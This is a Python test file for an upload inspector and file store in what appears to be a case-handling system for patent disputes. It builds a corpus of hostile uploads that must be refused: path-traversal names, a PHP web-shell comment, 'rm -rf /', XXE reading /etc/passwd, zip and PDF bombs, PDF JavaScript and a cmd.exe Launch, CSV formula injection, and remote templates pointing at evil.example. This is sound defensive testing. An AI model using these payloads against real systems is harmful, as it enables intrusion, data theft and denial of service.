"""Uploads: ordinary files of the desk pass, a corpus of hostile ones does not; storage keeps and proves bytes."""

import hashlib
import io
import stat
import struct
import threading
import warnings
import zipfile
import zlib

import docx
import openpyxl
import pytest
from django.core.files.storage import default_storage
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

from cases import files, uploads
from cases.protection import sm3
from cases.uploads import UploadRefused, clean_name, inspect

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- builders ---


def pdf(*, script: bool = False, pages: int = 1, extra: bytes = b"") -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if script:
        action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('x')")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject(key): value for key, value in action.items()}
        )
    if extra:
        stream = StreamObject()
        stream.set_data(extra)
        writer.root_object[NameObject("/Extra")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def objects_pdf(plain: bytes) -> bytes:
    """A PDF with one object stream that holds `plain`, as modern writers pack their dictionaries."""
    packed = zlib.compress(plain)
    head = b"%PDF-1.7\n5 0 obj\n<</Type/ObjStm/DecodeParms<</Predictor 1>>/Filter/FlateDecode/N 1/First 4/Length "
    return (
        head
        + str(len(packed)).encode()
        + b">>\nstream\n"
        + packed
        + b"\nendstream\nendobj\nstartxref\n0\n%%EOF\n"
    )


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def claimed_png(width: int, height: int) -> bytes:
    """A small PNG that claims to be huge."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 99))
        + chunk(b"IEND", b"")
    )


def word(text: str = "请求事项：责令停止侵权。") -> bytes:
    document, out = docx.Document(), io.BytesIO()
    document.add_heading("专利侵权纠纷处理请求书")
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def sheet(rows: int = 3) -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    for number in range(rows):
        book.active.append([f"证据{number}", number, "=SUM(B1:B2)"])
    book.save(out)
    return out.getvalue()


def packed(members: dict[str, bytes] | None = None, *, base: bytes | None = None, **replace: bytes) -> bytes:
    """A docx with members added, or with parts replaced (`document=` for word/document.xml)."""
    names = {
        "document": "word/document.xml",
        "rels": "word/_rels/document.xml.rels",
        "types": "[Content_Types].xml",
    }
    swapped = {names[key]: value for key, value in replace.items()} | (members or {})
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base or word())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for item in old.infolist():
            if item.filename not in swapped:
                new.writestr(item, old.read(item))
        for name, content in swapped.items():
            new.writestr(name, content)
    return out.getvalue()


def archive(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in (members or {"a.txt": b"a"}).items():
            new.writestr(name, content)
    return out.getvalue()


def linked(kind: str, target: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(word())) as old:
        rels = old.read("word/_rels/document.xml.rels").decode()
    extra = f'<Relationship Id="rX" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    return packed(rels=rels.replace("</Relationships>", f"{extra}</Relationships>").encode())


def with_symlink() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as new:
        item = zipfile.ZipInfo("word/link.xml")
        item.external_attr = (stat.S_IFLNK | 0o777) << 16
        new.writestr(item, "/etc/passwd")
    return out.getvalue()


def doubled() -> bytes:
    out = io.BytesIO(word())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as new:
        warnings.simplefilter("ignore")
        new.writestr("WORD/DOCUMENT.XML", b"<a/>")
    return out.getvalue()


def lying_bomb() -> bytes:
    """A member whose headers promise 10 bytes and whose data unpacks to 40 MiB."""
    content = packed({"word/media/a.bin": b"\0" * (40 << 20)})
    return content.replace(struct.pack("<I", 40 << 20), struct.pack("<I", 10))


def encrypted_flag() -> bytes:
    content = bytearray(word())
    content[6] |= 1
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;&l;">]><a>&m;</a>'
DTD16 = DTD.decode().replace("1.0", '1.0" encoding="UTF-16').encode("utf-16")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
MACRO_TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document'
    b'.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)

HOSTILE = {
    # name
    "program behind pdf": ("证据.pdf.exe", pdf, "type_not_allowed"),
    "program before pdf": ("证据.exe.pdf", pdf, "name_double"),
    "program before pdf, spaces": ("证据.exe   .pdf", pdf, "name_double"),
    "stream of another file": ("证据.exe:a.pdf", pdf, "name_double"),
    "semicolon": ("shell.asp;.jpg", picture, "name_double"),
    "right to left": ("证据\u202efdp.pdf", pdf, "name_bidi"),
    "isolate": ("证据\u2066a\u2069.pdf", pdf, "name_bidi"),
    "parent folder": ("../../etc/cron.d/x.pdf", pdf, "name_path"),
    "parent folder, windows": ("..\\..\\x.pdf", pdf, "name_path"),
    "parent folder, encoded": ("%2e%2e%2fx.pdf", pdf, "name_path"),
    "parent folder, encoded twice": ("%252e%252e%252fx.pdf", pdf, "name_path"),
    "parent folder, full width": ("．．／x.pdf".replace("．", "."), pdf, "name_path"),
    "NUL": ("x.exe\0.pdf", pdf, "name_control"),
    "NUL, encoded": ("x.exe%00.pdf", pdf, "name_control"),
    "line break": ("x\r\nSet-Cookie: a=b.pdf", pdf, "name_control"),
    "half a character": ("\udcff.pdf", pdf, "name_control"),
    "no ending": ("README", pdf, "type_not_allowed"),
    "no name": ("", pdf, "type_not_allowed"),
    "old word": ("a.doc", lambda: OLE, "type_not_allowed"),
    "macro document": ("a.docm", word, "type_not_allowed"),
    "svg": ("a.svg", lambda: b"<svg onload='x()'/>", "type_not_allowed"),
    "html": ("a.html", lambda: b"<html></html>", "type_not_allowed"),
    "zip": ("a.zip", archive, "type_not_allowed"),
    # type
    "program called pdf": ("a.pdf", lambda: b"MZ\x90\0" * 100, "type_mismatch"),
    "program called txt": ("a.txt", lambda: b"MZ\x90\0\x03\0" * 100, "type_mismatch"),
    "html called pdf": ("a.pdf", lambda: b"<html><script>x()</script></html>", "type_mismatch"),
    "html called txt": ("a.txt", lambda: "网页 <script>x()</script>".encode(), "markup"),
    "html called csv in utf-16": ("a.csv", lambda: "<html>".encode("utf-16"), "markup"),
    "svg called txt": ("a.txt", lambda: b"<?xml version='1.0'?><svg onload='x()'/>", "markup"),
    "script called txt": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "markup"),
    "svg called png": ("a.png", lambda: b"<svg onload='x()'/>", "type_mismatch"),
    "gif called jpg": ("a.jpg", lambda: picture("GIF"), "type_mismatch"),
    "png called jpg": ("a.jpg", lambda: picture("PNG"), "type_mismatch"),
    "pdf called docx": ("a.docx", pdf, "type_mismatch"),
    "old word called docx": ("a.docx", lambda: OLE, "type_mismatch"),
    "sheet called docx": ("a.docx", sheet, "type_mismatch"),
    "zip called docx": ("a.docx", archive, "type_mismatch"),
    "nothing": ("a.pdf", lambda: b"", "empty"),
    # pdf
    "pdf and page": ("a.pdf", lambda: b"%PDF-1.4\n<html><script>x()</script></html>", "broken"),
    "page between": (
        "a.pdf",
        lambda: pdf().replace(b"startxref", b"<script >x()</script>\nstartxref"),
        "markup",
    ),
    "page behind": ("a.pdf", lambda: pdf() + b"<html><script>x()</script>", "polyglot"),
    "archive behind": ("a.pdf", lambda: pdf() + archive() + b"\n%%EOF\n", "polyglot"),
    "page in the head": ("a.pdf", lambda: pdf().replace(b"\n", b"\n%<svg onload=x()>\n", 1), "markup"),
    "cut off": ("a.pdf", lambda: pdf()[:-30], "broken"),
    "script": ("a.pdf", lambda: pdf(script=True), "active"),
    "script, disguised": (
        "a.pdf",
        lambda: pdf(script=True).replace(b"/JavaScript", b"/J#61vaScript"),
        "active",
    ),
    "script, packed": ("a.pdf", lambda: objects_pdf(b"<</S/JavaScript/JS(x)>>"), "active"),
    "launch": ("a.pdf", lambda: objects_pdf(b"<</S/Launch/F(cmd.exe)>>"), "active"),
    "a million pages": ("a.pdf", lambda: pdf().replace(b"/Count 1", b"/Count 1000000"), "bomb"),
    "a million objects": (
        "a.pdf",
        lambda: b"%PDF-1.4\n" + b"1 0 obj\nendobj\n" * 300_000 + b"startxref\n%%EOF",
        "bomb",
    ),
    "object stream bomb": ("a.pdf", lambda: objects_pdf(b" " * (21 << 20)), "bomb"),
    # pictures
    "huge picture": ("a.png", lambda: claimed_png(50_000, 50_000), "too_many_pixels"),
    "large picture": ("a.png", lambda: claimed_png(8_000, 5_001), "too_many_pixels"),
    "picture without data": ("a.png", lambda: claimed_png(800, 800), "broken"),
    "half a picture": ("a.jpg", lambda: picture(size=(300, 300))[:2000], "broken"),
    "picture and archive": ("a.jpg", lambda: picture() + archive(), "polyglot"),
    "picture and page": ("a.jpg", lambda: picture() + b"<script >x()</script>", "polyglot"),
    "picture and php": ("a.jpg", lambda: picture(comment=b"<?php system($_GET[0]);"), "polyglot"),
    "picture and pdf": ("a.png", lambda: picture("PNG") + pdf(), "polyglot"),
    "picture and tail": ("a.png", lambda: picture("PNG") + b"tail", "polyglot"),
    # office
    "bomb": ("a.docx", lambda: packed({"word/media/a.bin": b"\0" * (60 << 20)}), "bomb"),
    "bomb of xml": ("a.docx", lambda: packed(document=b"<a>" + b" " * (60 << 20) + b"</a>"), "bomb"),
    "bomb that lies": ("a.docx", lying_bomb, "bomb|broken"),
    "larger than allowed": (
        "a.docx",
        lambda: packed({f"a{n}.bin": b"\0" * (70 << 20) for n in range(3)}),
        "bomb",
    ),
    "many small bombs": (
        "a.docx",
        lambda: packed({f"a{n}.bin": b"\0" * (1 << 20) for n in range(120)}),
        "bomb",
    ),
    "thousands of parts": (
        "a.docx",
        lambda: packed({f"word/a{n}.xml": b"<a/>" for n in range(1001)}),
        "bomb",
    ),
    "archive inside": ("a.docx", lambda: packed({"word/media/a.png": archive()}), "nested"),
    "rar inside": ("a.docx", lambda: packed({"word/media/a.bin": b"Rar!\x1a\x07"}), "nested"),
    "archive as sheet": ("a.docx", lambda: packed({"word/embeddings/a.xlsx": archive()}), "type_mismatch"),
    "document in document in document": (
        "a.docx",
        lambda: packed({"word/embeddings/a.docx": packed({"word/embeddings/b.xlsx": sheet()})}),
        "nested",
    ),
    "macro in embedded": (
        "a.docx",
        lambda: packed({"word/embeddings/a.docx": packed({"vbaProject.bin": b""})}),
        "macro",
    ),
    "program inside": ("a.docx", lambda: packed({"word/media/a.emf": b"MZ\x90\0"}), "nested"),
    "file as object": (
        "a.docx",
        lambda: packed({"word/embeddings/o.bin": OLE + "\1Ole10Native".encode("utf-16-le")}),
        "nested",
    ),
    "macro": ("a.docx", lambda: packed({"word/vbaProject.bin": OLE}), "macro"),
    "macro sheet": ("a.xlsx", lambda: packed({"xl/macrosheets/sheet1.xml": b"<a/>"}, base=sheet()), "macro"),
    "control": ("a.docx", lambda: packed({"word/activeX/activeX1.xml": b"<a/>"}), "macro"),
    "macro by type": ("a.docx", lambda: packed(types=MACRO_TYPES), "macro"),
    "external entity": ("a.docx", lambda: packed(document=DTD), "dtd"),
    "external entity, utf-16": ("a.docx", lambda: packed(document=DTD16), "dtd"),
    "billion laughs": ("a.xlsx", lambda: packed({"xl/sharedStrings.xml": LAUGHS}, base=sheet()), "dtd"),
    "entity in relationships": ("a.docx", lambda: packed(rels=DTD), "dtd"),
    "entity in a drawing": ("a.docx", lambda: packed({"word/a.vml": DTD}), "dtd"),
    "remote template": ("a.docx", lambda: linked("attachedTemplate", "http://evil.example/x.dotm"), "remote"),
    "template on a share": ("a.docx", lambda: linked("attachedTemplate", "\\\\evil\\x.dotm"), "remote"),
    "object on a share": ("a.docx", lambda: linked("oleObject", "file://evil/x"), "remote"),
    "path out": ("a.docx", lambda: packed({"../../x.xml": b"<a/>"}), "path"),
    "absolute path": ("a.docx", lambda: packed({"/etc/x.xml": b"<a/>"}), "path"),
    "windows path": ("a.docx", lambda: packed({"C:\\x.xml": b"<a/>"}), "path"),
    "symbolic link": ("a.docx", with_symlink, "path"),
    "names that collide": ("a.docx", doubled, "broken"),
    "with password": ("a.docx", encrypted_flag, "encrypted"),
    "program before": ("a.docx", lambda: b"PK\x03\x04" + b"\0" * 60 + word(), "polyglot"),
    "something behind": ("a.docx", lambda: word() + b"<html>", "polyglot"),
    "no xml": ("a.docx", lambda: packed(document=b"<a><b></a>"), "broken"),
    "cut": ("a.xlsx", lambda: sheet()[:-100], "broken|polyglot"),
    # text
    "binary text": ("a.txt", lambda: bytes(range(256)), "type_mismatch|encoding"),
    "no encoding": ("a.txt", lambda: b"\xff\xff\xff\x80\x80", "encoding"),
    "command in a table": ("a.csv", lambda: b"a,=cmd|'/C calc'!A0\n", "formula"),
    "command, plus": ("a.csv", lambda: b"\"+cmd|'/C calc'!A0\",1\n", "formula"),
    "link in a table": ("a.csv", lambda: b'a\n=HYPERLINK("http://evil.example")\n', "formula"),
    # virus
    "virus": ("a.txt", lambda: EICAR, "virus"),
    "virus in a document": ("a.docx", lambda: packed({"word/media/a.bin": b"x" * 300_000 + EICAR}), "virus"),
}

ORDINARY = {
    "pdf": ("专利证书.pdf", pdf),
    "pdf with attachment of markup": ("扫描件.pdf", lambda: pdf(extra=b"<x:xmpmeta><rdf:RDF/></x:xmpmeta>")),
    "pdf with many pages": ("案卷.PDF", lambda: pdf(pages=300)),
    "pdf with packed objects": ("新.pdf", lambda: objects_pdf(b"<</Type/Page/Count 3>>")),
    "pdf, line ends behind": ("a.pdf", lambda: pdf() + b"\r\n\r\n"),
    "jpg": ("现场照片.jpg", picture),
    "jpeg, progressive": ("IMG_20260102.JPEG", lambda: picture(progressive=True)),
    "jpg with position": ("手机.jpg", lambda: picture(exif=_exif())),
    "jpg, large": ("大图.jpg", lambda: picture(size=(2400, 1600))),
    "grey jpg": ("灰度.jpg", lambda: _saved(Image.new("L", (50, 50)), "JPEG")),
    "cmyk jpg": ("印刷.jpg", lambda: _saved(Image.new("CMYK", (50, 50)), "JPEG")),
    "png": ("截图.png", lambda: picture("PNG")),
    "png with transparency": ("图标.png", lambda: _saved(Image.new("RGBA", (20, 20)), "PNG")),
    "png of one colour": ("空白.png", lambda: _saved(Image.new("1", (5000, 5000)), "PNG")),
    "docx": ("请求书.docx", word),
    "docx, long": ("代理词.docx", lambda: word("侵权比对。" * 50_000)),
    "docx with picture": ("证据目录.docx", lambda: packed({"word/media/image1.png": picture("PNG")})),
    "docx with chart data": (
        "报告.docx",
        lambda: packed({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": sheet()}),
    ),
    "docx with formula object": ("说明书.docx", lambda: packed({"word/embeddings/oleObject1.bin": OLE})),
    "docx with web links": ("链接.docx", lambda: linked("hyperlink", "https://www.cnipa.gov.cn/")),
    "docx with own template": (
        "模板.docx",
        lambda: linked("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
    ),
    "docx with loose drawing": ("旧.docx", lambda: packed({"word/a.vml": b"<xml><br></xml>"})),
    "xlsx": ("销售数据.xlsx", sheet),
    "xlsx, long": ("台账.xlsx", lambda: sheet(5_000)),
    "txt": ("聊天记录.txt", lambda: "张三：价格<100>元，a<b，50%\r\n".encode()),
    "txt in gb18030": ("说明.txt", lambda: "知识产权保护中心\n".encode("gb18030")),
    "txt in utf-16": ("记事本.txt", lambda: "知识产权\n".encode("utf-16")),
    "csv": ("清单.csv", lambda: "名称,数量,变化\n商品,3,-5\n电话,+86 13800138000,=1+2\n".encode("utf-8-sig")),
    "several dots": ("2026.01.02 证据.v2.pdf", pdf),
    "converted": ("合同.docx.pdf", pdf),
    "per cent": ("占比50%.pdf", pdf),
}


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Phone"
    exif.get_ifd(0x8825)[1] = "N"
    return exif


def _saved(image: Image.Image, kind: str) -> bytes:
    out = io.BytesIO()
    image.save(out, kind)
    return out.getvalue()


# --- the corpus ---


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_refused(case):
    name, build, code = HOSTILE[case]
    with pytest.raises(UploadRefused) as refusal:
        inspect(name, io.BytesIO(build()))
    assert refusal.value.code in code.split("|"), refusal.value.message
    assert any("\u4e00" <= char <= "\u9fff" for char in str(refusal.value.message))
    assert "请" in str(refusal.value.message)  # says what to do


@pytest.mark.parametrize("case", ORDINARY)
def test_ordinary_files_are_taken(case):
    name, build = ORDINARY[case]
    content = build()
    facts = inspect(name, io.BytesIO(content))
    assert (facts.sm3, facts.sha256) == (sm3(content), hashlib.sha256(content).hexdigest())
    assert facts.size == len(content)
    assert facts.type == uploads.TYPES[name.rpartition(".")[2].lower()]
    assert facts.safe_name.rpartition(".")[2] == name.rpartition(".")[2].lower()


def test_the_corpus_is_as_large_as_promised():
    assert len(HOSTILE) >= 40
    assert len(ORDINARY) >= 20


def test_a_file_over_the_limit_is_refused_by_counting(monkeypatch):
    content = pdf()
    monkeypatch.setattr(uploads, "MAX_BYTES", len(content))
    assert inspect("a.pdf", io.BytesIO(content)).size == len(content)
    monkeypatch.setattr(uploads, "MAX_BYTES", len(content) - 1)
    with pytest.raises(UploadRefused) as refusal:
        inspect("a.pdf", io.BytesIO(content))
    assert refusal.value.code == "too_large"


def test_the_file_is_left_at_its_start():
    stream = io.BytesIO(pdf())
    stream.read(10)
    inspect("a.pdf", stream)
    assert stream.tell() == 0


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("C:\\Users\\张三\\证据.pdf", "证据.pdf"),
        ("/home/a/证据.pdf", "证据.pdf"),
        ("证据\u200b.pdf", "证据.pdf"),
        ("  证据 一 .pdf ", "证据 一.pdf"),
        ("证据.pdf. .", "证据.pdf"),
        (".pdf", "文件.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ('a"b<c>|?*.pdf', "a_b_c____.pdf"),
        ("证据.ｐｄｆ", "证据.pdf"),
        ("证据：一.pdf", "证据：一.pdf"),
        ("证据.PDF", "证据.pdf"),
    ],
)
def test_names_are_cleaned(name, clean):
    assert clean_name(name)[0] == clean


@pytest.mark.parametrize("name", ["证" * 300 + ".pdf", "a" * 5_000 + ".docx", "\U0001f512" * 100 + ".jpg"])
def test_long_names_are_shortened_and_keep_their_ending(name):
    clean, extension = clean_name(name)
    assert len(clean.encode()) <= 255 and len(clean) <= 200
    assert clean.endswith(f".{extension}")
    assert clean[:50] == name[:50]


# --- storage ---


@pytest.fixture
def stored():
    """A stored file, with content that no other test uses."""
    content = word(str(hashlib.sha256(repr(threading.get_ident()).encode()).hexdigest()))
    facts = inspect("a.docx", io.BytesIO(content))
    files.put(facts, io.BytesIO(content))
    yield facts, content
    default_storage.delete(files.storage_name(facts.sm3))


def test_what_is_stored_comes_back_under_its_digest(stored):
    facts, content = stored
    assert files.exists(facts.sm3)
    assert files.storage_name(facts.sm3) == f"files/{facts.sm3[:2]}/{facts.sm3}"
    with files.open(facts.sm3) as handle:
        assert handle.read() == content


def test_storing_again_changes_nothing_and_leaves_nothing_behind(stored):
    facts, content = stored
    name = files.storage_name(facts.sm3)
    before = default_storage.get_modified_time(name)
    assert files.put(facts, io.BytesIO(content)) == name
    assert default_storage.get_modified_time(name) == before
    assert [entry for entry in default_storage.listdir(f"files/{facts.sm3[:2]}")[1] if "new" in entry] == []


def test_one_changed_byte_is_found_and_the_file_not_given_out(stored):
    facts, content = stored
    path = default_storage.path(files.storage_name(facts.sm3))
    damaged = bytearray(content)
    damaged[len(damaged) // 2] ^= 1
    with open(path, "wb") as target:
        target.write(damaged)
    with pytest.raises(files.FileLost) as lost:
        files.open(facts.sm3)
    assert lost.value.code == "file_damaged"
    files.put(facts, io.BytesIO(content))  # the same content again heals it
    with files.open(facts.sm3) as handle:
        assert handle.read() == content


def test_a_missing_file_is_told_apart():
    for verify in (True, False):
        with pytest.raises(files.FileLost) as lost:
            files.open("0" * 64, verify=verify)
        assert lost.value.code == "file_missing"


@pytest.mark.parametrize("digest", ["", "../../etc/passwd", "A" * 64, "0" * 63, "0" * 64 + "\n"])
def test_only_a_digest_names_a_file(digest):
    with pytest.raises(ValueError, match="digest"):
        files.storage_name(digest)


def test_content_that_changed_after_the_inspection_is_not_stored():
    facts = inspect("a.pdf", io.BytesIO(pdf()))
    for other in (pdf(pages=2), pdf()[:-1], pdf() + b"\n"):
        with pytest.raises(UploadRefused) as refusal:
            files.put(facts, io.BytesIO(other))
        assert refusal.value.code == "changed"


def test_a_failed_write_leaves_no_file(monkeypatch):
    def full(*_arguments):
        raise OSError(28, "No space left on device")

    content = word("磁盘已满")
    facts = inspect("a.docx", io.BytesIO(content))
    monkeypatch.setattr(files.os, "fsync", full)
    with pytest.raises(OSError, match="space"):
        files.put(facts, io.BytesIO(content))
    assert not files.exists(facts.sm3)
    assert [
        name for name in default_storage.listdir(f"files/{facts.sm3[:2]}")[1] if name.startswith(".new-")
    ] == []


def test_what_we_made_ourselves_is_stored_without_inspection():
    facts = files.put_bytes(b"<made by us>", name="裁决书.pdf", type="application/pdf")
    try:
        with files.open(facts.sm3) as handle:
            assert handle.read() == b"<made by us>"
    finally:
        default_storage.delete(files.storage_name(facts.sm3))
